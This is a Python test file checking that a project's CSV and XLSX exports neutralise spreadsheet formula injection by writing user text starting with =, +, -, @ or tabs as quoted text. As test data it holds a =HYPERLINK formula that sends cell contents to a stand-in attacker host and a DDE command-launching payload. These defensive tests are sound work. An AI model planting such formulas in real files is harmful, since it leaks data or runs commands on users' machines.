"""Formula injection: text users gave us stays text in every XLSX and CSV tinhso writes."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from tests.indices.published import DTI_922_MAINS, DTI_2022, as_csv, records
from tinhso.core import cellsafe

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


def formula_cells(content: bytes) -> list[str]:
    wb = load_workbook(io.BytesIO(content))  # formulas kept as formulas (not data_only)
    return [f"{ws.title}!{c.coordinate}" for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if c.data_type == "f"]


def all_text(content: bytes) -> set:
    wb = load_workbook(io.BytesIO(content))
    return {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)}


@pytest.mark.parametrize(("value", "written"), [
    ("=1+2", "'=1+2"), ("+1+2", "'+1+2"), ("-1+2", "'-1+2"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
    ("\r=x", "'\r=x"), (HYPERLINK, "'" + HYPERLINK), ("Hà Nội", "Hà Nội"), ("a=b", "a=b"), ("", ""),
    ("-12.5", "-12.5"), ("+3", "+3"), ("-0,5", "-0,5"), ("-1e5", "-1e5"),
    (-3, -3), (-2.5, -2.5), (0, 0), (None, None), (True, True),
])
def test_csv_value_applies_the_owasp_rule_to_text_only(value, written):
    assert cellsafe.csv_value(value) == written


def test_indices_workbook_writes_a_formula_named_unit_as_text():
    from tinhso.indices import dataset, methodology, results, workbook

    rows = records(DTI_2022, DTI_922_MAINS, "2022")
    for r in rows:
        r["unit_name"] = HYPERLINK if r["unit"] == "Quảng Ninh" else r["unit"]
        r["unit"] = {"TP. Đà Nẵng": "48", "TP. Hồ Chí Minh": "79", "Quảng Ninh": "22"}[r["unit"]]
    method = methodology.load_method("dti-922")
    comp = results.compute(dataset.read_file(method, as_csv(rows), "in.csv"))
    content = workbook.results_workbook(comp)
    assert formula_cells(content) == []
    assert HYPERLINK in all_text(content)


@pytest.mark.django_db
def test_indicator_exports_and_template_write_formula_text_as_text():
    from tinhso.indicators import io as indicators_io
    from tinhso.indicators import setup

    setup.load_demo(out=lambda *a, **k: None)
    row = {c: "" for c in indicators_io.COLUMNS}
    # A negative growth rate (a negative percentage of coverage is refused on import, as on the form).
    row.update({"Year": "2023", "Indicator": "labour-productivity-growth", "Source": "evil-src", "SourceTitle": HYPERLINK,
                "Note": "@SUM(1+1)", "Quote": "-2+3", "GeoCode": "legacy:60", "Value": "-5"})
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=indicators_io.COLUMNS)
    writer.writeheader()
    writer.writerow(row)
    indicators_io.import_file(out.getvalue().encode(), "obs.csv", entered_by_name="test")

    xlsx, _ = indicators_io.export("bt-nq10-2022", 2025, "xlsx")
    assert formula_cells(xlsx) == [] and HYPERLINK in all_text(xlsx)
    template = indicators_io.template()
    assert formula_cells(template) == [] and HYPERLINK in all_text(template)

    content, _ = indicators_io.export("bt-nq10-2022", 2025, "csv")
    exported = [r for r in csv.DictReader(io.StringIO(content.decode("utf-8-sig"))) if r["Source"] == "evil-src"]
    assert len(exported) == 1
    assert exported[0]["SourceTitle"] == "'" + HYPERLINK
    assert exported[0]["Note"] == "'@SUM(1+1)" and exported[0]["Quote"] == "'-2+3"
    assert float(exported[0]["Value"]) == -5   # numbers are not touched


def test_report_stats_csv_writes_names_as_text_and_numbers_as_numbers():
    from tinhso.reports import stats

    out = io.StringIO()
    stats.write_csv([{"key": "x", "name": "=cmd|'/c calc'!A1", "received": 3, "on_time_rate": -0.25,
                      "avg_rating": None}], out)
    (row,) = csv.DictReader(io.StringIO(out.getvalue()))
    assert row["name"] == "'=cmd|'/c calc'!A1"
    assert row["received"] == "3" and row["on_time_rate"] == "-0.25" and row["avg_rating"] == ""
